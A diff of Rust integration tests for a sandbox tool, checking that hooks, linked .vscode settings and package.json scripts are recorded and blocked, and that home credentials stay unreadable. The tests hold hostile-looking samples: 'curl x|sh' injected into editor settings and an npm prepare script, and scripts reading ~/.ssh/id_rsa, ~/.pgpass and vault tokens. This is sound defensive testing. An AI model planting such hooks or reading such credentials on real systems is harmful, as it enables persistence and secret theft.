@@ -6,7 +6,8 @@
 //! values from the sandbox reaching the terminal, the terminal itself (TIOCSTI), inherited file
 //! descriptors and credentials in the environment, refusals that must fail `--block`,
 //! fileless exec, host unix sockets and vsock, `/tmp` and `/dev/shm`, root, project persistence
-//! and the egress allowlist.
+//! (every path form, races, links, `package.json` scripts), the egress allowlist, the empty
+//! home and its caches, and attribution by the process tree.
 //!
 //! Hermetic: only loopback listeners and unix sockets this test creates are ever targeted.
 //! Tests that need `cc` skip with a message on stderr when it is missing (CI sets
@@ -1040,6 +1041,18 @@ fn project_persistence_is_recorded_always_and_read_only_under_block() {
                 "{user:?}: a protected path changed under --block{r}"
             );
             assert_eq!(run.code, Some(1), "{r}");
+            for never in [
+                ".idea",
+                ".claude",
+                ".devcontainer",
+                ".gitlab-ci.yml",
+                ".pnpmfile.cjs",
+            ] {
+                assert!(
+                    p.join(never).symlink_metadata().is_err(),
+                    "{user:?}: the read-only placeholder {never} was left in the project{r}"
+                );
+            }
             for gone in [".vscode", ".envrc", ".yarnrc.yml"] {
                 let made = p.join(gone).exists();
                 assert!(
@@ -1056,31 +1069,133 @@ fn project_persistence_is_recorded_always_and_read_only_under_block() {
 
 #[test]
 fn racing_the_path_check_does_not_write_a_hook() {
+    // An existing entry (.git/hooks) and one that does not exist yet (.envrc): the race
+    // decides what the supervisor reads, never what the kernel lets through under --block.
+    for (target, harmless) in [
+        (".git/hooks/pre-commit", "harmless-file-name-21"),
+        (".envrc", "envrc0"),
+    ] {
+        assert_eq!(target.len(), harmless.len());
+        for (user, block) in matrix() {
+            let w = World::new(user);
+            let Some(probe) = compile(&w, "race_open") else {
+                return;
+            };
+            persistence_project(&w);
+            let events = w.root().join("watch.jsonl");
+            let run = w.watch(mode(block), &events, &[s(&probe), target, harmless], &[]);
+            let r = run.report();
+            assert!(run.stdout.contains("race_open wins="), "the probe ran{r}");
+            let written = w.project().join(target);
+            if block {
+                assert!(
+                    !written.exists(),
+                    "{user:?}: the race wrote {target} under --block{r}"
+                );
+            } else if written.exists() {
+                assert!(
+                    run.any(|e| field(e, "event") == "persistence-write"
+                        && field(e, "target") == s(&written)),
+                    "{user:?}: {target} written by a race went unrecorded{r}"
+                );
+            }
+        }
+    }
+}
+
+/// A persistence entry that is a link (`.vscode -> tools/vscode`, `.husky -> config/hooks`):
+/// writing the link's target by its own name is writing the entry.
+#[test]
+fn a_persistence_entry_behind_a_link_is_protected_by_where_it_points() {
+    if !common::have_tools("linked-entry", &["sh"]) {
+        return;
+    }
     for (user, block) in matrix() {
         let w = World::new(user);
-        let Some(probe) = compile(&w, "race_open") else {
-            return;
-        };
-        persistence_project(&w);
-        let (target, harmless) = (".git/hooks/pre-commit", "harmless-file-name-21");
-        assert_eq!(target.len(), harmless.len());
+        let p = w.project();
+        std::fs::create_dir_all(p.join("tools/vscode")).unwrap();
+        std::fs::write(p.join("tools/vscode/settings.json"), "{}\n").unwrap();
+        symlink("tools/vscode", p.join(".vscode")).unwrap();
+        // Planted by an earlier run to freeze the temp directory under --block: ignored.
+        symlink("/var/tmp", p.join(".husky")).unwrap();
+        let script = "echo '{\"terminal.integrated.shellArgs.linux\":[\"-c\",\"curl x|sh\"]}' \
+                      > tools/vscode/settings.json 2>/dev/null; \
+                      echo '{}' > tools/vscode/tasks.json 2>/dev/null; \
+                      echo x > /var/tmp/scratch && echo tmp-writable; echo ran";
         let events = w.root().join("watch.jsonl");
-        let run = w.watch(mode(block), &events, &[s(&probe), target, harmless], &[]);
+        let run = w.watch(mode(block), &events, &["sh", "-c", script], &[]);
         let r = run.report();
-        assert!(run.stdout.contains("race_open wins="), "the probe ran{r}");
-        let hook = w.project().join(target);
+        assert!(run.stdout.contains("ran"), "{r}");
+        assert!(
+            run.stdout.contains("tmp-writable"),
+            "{user:?} block={block}: a planted link froze /var/tmp{r}"
+        );
+        let recorded = |name: &str| {
+            run.any(|e| {
+                field(e, "event") == "persistence-write" && field(e, "target").ends_with(name)
+            })
+        };
+        assert!(
+            recorded("settings.json") && recorded("tasks.json"),
+            "{user:?} block={block}: writes through the entry's target went unrecorded{r}"
+        );
         if block {
-            assert!(
-                !hook.exists(),
-                "{user:?}: the race wrote a hook under --block{r}"
+            assert_eq!(
+                std::fs::read_to_string(p.join("tools/vscode/settings.json")).unwrap(),
+                "{}\n",
+                "{user:?}: the linked entry was written under --block{r}"
             );
-        } else if hook.exists() {
-            assert!(
-                run.any(
-                    |e| field(e, "event") == "persistence-write" && field(e, "target") == s(&hook)
-                ),
-                "{user:?}: a hook written by a race went unrecorded{r}"
+            assert!(!p.join("tools/vscode/tasks.json").exists(), "{user:?}{r}");
+            assert_eq!(run.code, Some(1), "{r}");
+        }
+    }
+}
+
+/// `package.json` is the project's (npm install writes its dependencies), but a script added
+/// there runs on the next `npm install`, `npm test` or `npm run`: a change to `scripts` is a
+/// persistence write, and fails `--block`.
+#[test]
+fn a_script_added_to_package_json_is_recorded() {
+    if !common::have_tools("package-scripts", &["sh", "sed"]) {
+        return;
+    }
+    for (user, block) in matrix() {
+        for (what, edit, flagged) in [
+            (
+                "scripts",
+                r#"s/"test": "true"/"test": "true", "prepare": "curl x|sh"/"#,
+                true,
+            ),
+            (
+                "dependencies",
+                r#"s/"left-pad": "1.0.0"/"left-pad": "1.3.0"/"#,
+                false,
+            ),
+        ] {
+            let w = World::new(user);
+            let pj = w.project().join("package.json");
+            std::fs::write(
+                &pj,
+                "{\n  \"name\": \"p\",\n  \"scripts\": { \"test\": \"true\" },\n  \"dependencies\": { \"left-pad\": \"1.0.0\" }\n}\n",
+            )
+            .unwrap();
+            let script = format!("sed -i '{edit}' package.json && echo edited");
+            let events = w.root().join("watch.jsonl");
+            let run = w.watch(mode(block), &events, &["sh", "-c", &script], &[]);
+            let r = run.report();
+            assert!(run.stdout.contains("edited"), "{r}");
+            let recorded = run.any(|e| {
+                field(e, "event") == "persistence-write"
+                    && field(e, "target") == s(&pj)
+                    && field(e, "detail").starts_with("package-scripts")
+            });
+            assert_eq!(
+                recorded, flagged,
+                "{user:?} block={block}: a change to {what} (flagged: {flagged}){r}"
             );
+            if block {
+                assert_eq!(run.code, Some(if flagged { 1 } else { 0 }), "{what}{r}");
+            }
         }
     }
 }
@@ -1101,6 +1216,7 @@ fn lived_in_home(w: &World) {
         (".bash_history", "export TOKEN=SECRET-history"),
         (".cache/turncoat/verdicts.json", "trusted"),
         (".npm/_cacache/index-v5/entry", "cache-entry"),
+        (".cache/node-gyp/20.0.0/include/node/node.h", "headers"),
     ] {
         let p = h.join(rel);
         std::fs::create_dir_all(p.parent().unwrap()).unwrap();
@@ -1119,6 +1235,8 @@ fn the_command_sees_an_empty_home_and_its_caches_are_private() {
         let script = "cat ~/.vault-token ~/.pgpass ~/.config/git/credentials ~/.bash_history \
                       2>/dev/null; echo; \
                       echo npm-cache=$(cat ~/.npm/_cacache/index-v5/entry 2>/dev/null); \
+                      echo gyp=$(cat ~/.cache/node-gyp/20.0.0/include/node/node.h 2>/dev/null); \
+                      echo poisoned > ~/.cache/node-gyp/20.0.0/include/node/node.h 2>/dev/null; \
                       echo poisoned > ~/.cache/turncoat/verdicts.json 2>/dev/null; \
                       echo poisoned > ~/.npm/_cacache/index-v5/entry 2>/dev/null; \
                       mkdir -p ~/.npm/_npx/evil ~/.config/husky 2>/dev/null; \
@@ -1139,8 +1257,8 @@ fn the_command_sees_an_empty_home_and_its_caches_are_private() {
         );
         // The npm cache is the user's, copy-on-write: readable, never written back.
         assert!(
-            run.stdout.contains("npm-cache=cache-entry"),
-            "{user:?} block={block}: npm's cache is not readable{r}"
+            run.stdout.contains("npm-cache=cache-entry") && run.stdout.contains("gyp=headers"),
+            "{user:?} block={block}: the package managers' caches are not readable{r}"
         );
         let h = w.home();
         let read = |rel: &str| std::fs::read_to_string(h.join(rel)).unwrap_or_default();
@@ -1154,12 +1272,126 @@ fn the_command_sees_an_empty_home_and_its_caches_are_private() {
             "cache-entry",
             "{user:?} block={block}{r}"
         );
+        assert_eq!(
+            read(".cache/node-gyp/20.0.0/include/node/node.h"),
+            "headers",
+            "{user:?} block={block}{r}"
+        );
         for left in [".npm/_npx/evil", ".config/husky"] {
             assert!(
                 !h.join(left).exists(),
                 "{user:?} block={block}: {left} was left in the real home{r}"
             );
         }
+    }
+}
+
+/// What the user declares (`--allow-read`, `--allow-write`) is shown through the empty home,
+/// and nothing beside it.
+#[test]
+fn declared_paths_show_through_the_empty_home_and_nothing_else() {
+    if !common::have_tools("declared-home", &["sh", "cat"]) {
+        return;
+    }
+    for user in users() {
+        let w = World::new(user);
+        lived_in_home(&w);
+        std::fs::write(w.home().join(".npmrc"), "registry=https://r.invalid/\n").unwrap();
+        std::fs::create_dir_all(w.home().join("shared-out")).unwrap();
+        let script = "cat ~/.npmrc; cat ~/.pgpass 2>/dev/null; \
+                      echo out > ~/shared-out/result && echo wrote-declared; echo done";
+        let events = w.project().join("watch.jsonl");
+        let home = s(&w.home()).to_string();
+        let read = format!("{home}/.npmrc");
+        let write = format!("{home}/shared-out");
+        let run = w.watch(
+            &["--allow-read", &read, "--allow-write", &write],
+            &events,
+            &["sh", "-c", script],
+            &[],
+        );
+        let r = run.report();
+        assert!(run.stdout.contains("done"), "{r}");
+        assert!(
+            run.stdout.contains("registry=https://r.invalid/"),
+            "{user:?}: --allow-read did not show ~/.npmrc{r}"
+        );
+        assert!(
+            !run.stdout.contains("SECRET"),
+            "{user:?}: a sibling showed through{r}"
+        );
+        assert_eq!(
+            std::fs::read_to_string(w.home().join("shared-out/result")).unwrap_or_default(),
+            "out\n",
+            "{user:?}: --allow-write under the home did not reach the host{r}"
+        );
+    }
+}
+
+/// A tool installed under the home and named by its path (nvm's `npm`) still runs: its
+/// installation shows through the empty home, read-only.
+#[test]
+fn a_tool_under_the_home_named_by_its_path_runs() {
+    if !common::have_tools("home-tool", &["sh"]) {
+        return;
+    }
+    for user in users() {
+        let w = World::new(user);
+        let tool = w.home().join(".tools/v1");
+        std::fs::create_dir_all(tool.join("bin")).unwrap();
+        std::fs::create_dir_all(tool.join("lib")).unwrap();
+        std::fs::write(tool.join("lib/greet.sh"), "echo tool-lib-loaded\n").unwrap();
+        let run_sh = tool.join("bin/run");
+        std::fs::write(
+            &run_sh,
+            "#!/bin/sh\n. \"$(dirname \"$0\")/../lib/greet.sh\"\n",
+        )
+        .unwrap();
+        make_executable(&run_sh);
+        let events = w.project().join("watch.jsonl");
+        let run = w.watch(&[], &events, &[s(&run_sh)], &[]);
+        let r = run.report();
+        assert!(
+            run.stdout.contains("tool-lib-loaded"),
+            "{user:?}: the tool's installation is not visible{r}"
+        );
+    }
+}
+
+/// Without namespaces there is no empty home to mount, but Landlock still keeps the files of
+/// the real one from being read (their names stay listable).
+#[test]
+fn the_degraded_tier_does_not_let_the_command_read_the_home() {
+    if !common::have_tools("degraded-home", &["sh", "cat"]) {
+        return;
+    }
+    for user in users() {
+        let w = World::new(user);
+        lived_in_home(&w);
+        std::fs::write(w.project().join("own.txt"), "project-file\n").unwrap();
+        std::fs::create_dir_all(w.home().join(".ssh")).unwrap();
+        std::fs::write(w.home().join(".ssh/id_rsa"), "SECRET-key").unwrap();
+        let script = "cat ~/.vault-token ~/.pgpass ~/.config/git/credentials ~/.ssh/id_rsa \
+                      2>/dev/null; \
+                      cat own.txt; cat /etc/hostname >/dev/null && echo etc-readable; echo done";
+        let events = w.project().join("watch.jsonl");
+        let run = w.watch(&["--tier", "degraded"], &events, &["sh", "-c", script], &[]);
+        let r = run.report();
+        assert!(run.stdout.contains("done"), "{r}");
+        assert!(
+            run.stdout.contains("project-file") && run.stdout.contains("etc-readable"),
+            "{user:?}: the project or the system became unreadable{r}"
+        );
+        assert!(
+            !run.stdout.contains("SECRET"),
+            "{user:?}: the degraded tier let the command read the home{r}"
+        );
+        assert!(
+            run.any(|e| field(e, "event") == "sensitive-read"
+                && field(e, "target").ends_with("/.ssh/id_rsa")
+                && field(e, "verdict") == "deny"),
+            "{user:?}: the refused read is not recorded as refused{r}"
+        );
     }
 }
 
